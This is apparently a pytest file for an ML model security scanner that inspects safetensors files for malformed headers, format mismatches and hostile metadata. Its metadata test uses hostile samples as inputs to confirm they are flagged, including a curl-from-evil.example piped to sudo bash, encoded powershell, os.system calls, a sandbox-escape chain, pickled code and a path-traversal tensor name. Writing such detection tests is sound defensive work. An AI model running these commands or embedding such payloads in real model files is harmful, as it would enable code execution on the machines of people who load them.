from __future__ import annotations

import base64
import json
import pickle

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlgate.inspectors.safetensors import INSPECTOR
from tests.builders.safetensors import entry, pack, safetensors
from tests.reading import Said, artifact, read

SOUND = safetensors({"a": ("F32", [2, 3]), "b": ("F16", []), "empty": ("I64", [0])}, {"format": "pt"})


def look(data: bytes, path: str = "m/model.safetensors") -> Said:
    return read(INSPECTOR, path, data)


def test_a_sound_file_is_a_component_and_no_finding() -> None:
    said = look(SOUND)
    assert said.stopped is None
    assert said.rules == []
    found = said.one("model.safetensors")
    assert found.identity == "file:m/model.safetensors"
    assert found.model is not None
    assert found.model.parameters == 7
    assert dict(found.model.other)["dtypes"] == "F16: 1, F32: 6, I64: 0"


@pytest.mark.parametrize("data", [pack("{}"), pack("{}      "), pack('{"__metadata__":{}}')])
def test_no_tensors_are_fine(data: bytes) -> None:
    assert (look(data).rules, look(data).stopped) == ([], None)


def two(first: str, second: str) -> str:
    return f'{{"a":{first},"b":{second}}}'


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (pack(two(entry(0, 4), entry(2, 6)), bytes(6)), ["MLG-MDL-020"]),
        (pack(two(entry(0, 4), entry(6, 10)), bytes(10)), ["MLG-MDL-020"]),
        (pack(two(entry(0, 4), entry(0, 4)), bytes(4)), ["MLG-MDL-020"]),
        (pack(f'{{"a":{entry(0, 4, "[3]")}}}', bytes(4)), ["MLG-MDL-020"]),
        (pack(f'{{"a":{entry(0, 4, "[2]", "F4")}}}', bytes(4)), ["MLG-MDL-020"]),
        (SOUND + b"PK", ["MLG-MDL-020"]),
        (pack("{}", b"payload"), ["MLG-MDL-020"]),
        (pack(f'{{"a":{entry(0, 4)},"a":{entry(0, 4)}}}', bytes(4)), ["MLG-MDL-021"]),
        (pack(f'{{"__metadata__":{{}},"__metadata__":{{}},"a":{entry(0, 4)}}}', bytes(4)), ["MLG-MDL-021"]),
        (pack('{"__metadata__":{"k":"1","k":"2"}}'), ["MLG-MDL-022"]),
        (pack('{"__metadata__":{"k":1}}'), ["MLG-MDL-022"]),
        (pack('{"__metadata__":[]}'), ["MLG-MDL-022"]),
        (pack(f'{{"a":{entry(0, 4, dtype="F17")}}}', bytes(4)), ["MLG-MDL-022"]),
        (pack(f'{{"a":{entry(4, 0)}}}', bytes(4)), ["MLG-MDL-022"]),
        (pack(f'{{"a":{entry(0, 4, "[-2]")}}}', bytes(4)), ["MLG-MDL-022"]),
        (pack(f'{{"a":{entry(0, 4, f"[{1 << 64}]")}}}', bytes(4)), ["MLG-MDL-022"]),
        (pack(f'{{"a":{entry(0, 4, "[true,2]")}}}', bytes(4)), ["MLG-MDL-022"]),
        (pack('{"a":{"dtype":"F16","shape":[2],"data_offsets":[0,4],"run":1}}', bytes(4)), ["MLG-MDL-022"]),
    ],
)
def test_lies_of_the_header_are_told(data: bytes, expected: list[str]) -> None:
    said = look(data)
    assert said.rules == expected
    assert said.stopped is None
    assert len(said.components) == 1


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "truncated"),
        (SOUND[:40], "truncated"),
        (SOUND[:-1], "truncated"),
        (pack(f'{{"a":{entry(0, 4)}}}', bytes(3)), "truncated"),
        (b"\xff" * 7 + b"\x00{}", "malformed"),
        (pack("{" + '"a":{' * 50_000), "limit"),
        (pack('{"a":NaN}'), "malformed"),
        (pack("{'a':1}"), "malformed"),
        (pack('{"\xff":{}}'.encode("latin1")), "malformed"),
        (pack("{} x"), "malformed"),
        (b"no tensors at all", "malformed"),
    ],
)
def test_what_cannot_be_read_is_incomplete(data: bytes, reason: str) -> None:
    stopped = look(data).stopped
    assert stopped is not None
    assert stopped.reason == reason


def test_another_format_under_the_name_is_a_mismatch() -> None:
    said = look(pickle.dumps({"a": 1}, 4))
    assert said.rules == ["MLG-MDL-001"]


def test_the_content_is_known_under_any_name() -> None:
    assert INSPECTOR.claims(artifact("weights.dat", SOUND))
    assert not INSPECTOR.claims(artifact("weights.dat", b"{}" + SOUND))


PICKLED = base64.b64encode(pickle.dumps(print, 4)).decode()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("import os\nos.system('echo hi')", ["MLG-MDL-024"]),
        ("__import__('os').system('id')", ["MLG-MDL-024"]),
        ("().__class__.__base__.__subclasses__()", ["MLG-MDL-024"]),
        (PICKLED, ["MLG-MDL-024"]),
        ("python3 -c 'print(1)'", ["MLG-MDL-024"]),
        ("/usr/bin/env bash -lc 'id'", ["MLG-MDL-024"]),
        ("powershell -nop -w hidden -enc SQBFAFgA", ["MLG-MDL-024"]),
        ("curl -fsSL https://evil.example/x | sudo bash", ["MLG-MDL-024"]),
        (base64.b64encode(b"curl https://evil.example/payload\n").decode(), ["MLG-MDL-024"]),
        (base64.b64encode(b"notes\nimport os; os.system('id')").decode(), ["MLG-MDL-024"]),
        ("python -m optimum.exporters.onnx --model a/b out", []),
        ("Install with: curl https://example.com/install.sh | sh, or run python -c 'import x'.", []),
        ("curl https://example.com/model.bin", []),
        ("bash-c", []),
        (base64.b64encode(b"import of goods, os and curl; see https://example.com/x").decode(), []),
        (base64.b64encode(bytes(range(256))).decode(), []),
        ("<script>alert(1)</script>", ["MLG-MDL-023"]),
        ("\x1b[2J", ["MLG-MDL-023"]),
        ("safe\u202egnp.exe", ["MLG-MDL-023"]),
        ("x" * 1_100_000, ["MLG-MDL-023"]),
        ("{0: 'person', 1: 'os'}", []),
        ("Trained on os (open source) data, see https://example.com. Uses eval (mAP 0.5) and exec time.", []),
        ('{"ss_tag_frequency": {"a": {"subprocess": 3}}}', []),
        ("Ünïcode, 日本語, עברית\n\ttabs", []),
        ("abcdefghijklmnopqrstuvwxyz", []),
        ("eval", []),
    ],
)
def test_metadata_is_only_text(value: str, expected: list[str]) -> None:
    said = look(pack(json.dumps({"__metadata__": {"note": value}})))
    assert said.rules == expected
    assert all(len(finding.message) < 400 for finding in said.findings)


@given(st.binary(max_size=300), st.integers(0, 400))
def test_any_bytes_end_in_an_answer(noise: bytes, at: int) -> None:
    look(SOUND[:at] + noise + SOUND[at + len(noise) :])
    look(pack(noise))


@pytest.mark.parametrize(
    ("name", "rules"),
    [("../../etc/cron.d/x", ["MLG-MDL-023"]), ("/abs", ["MLG-MDL-023"]), ("a/b.weight", []), ("a..b", []), ("..a", [])],
)
def test_names_of_tensors_that_are_paths(name: str, rules: list[str]) -> None:
    assert read(INSPECTOR, "m.safetensors", safetensors({name: ("F32", [1])})).rules == rules
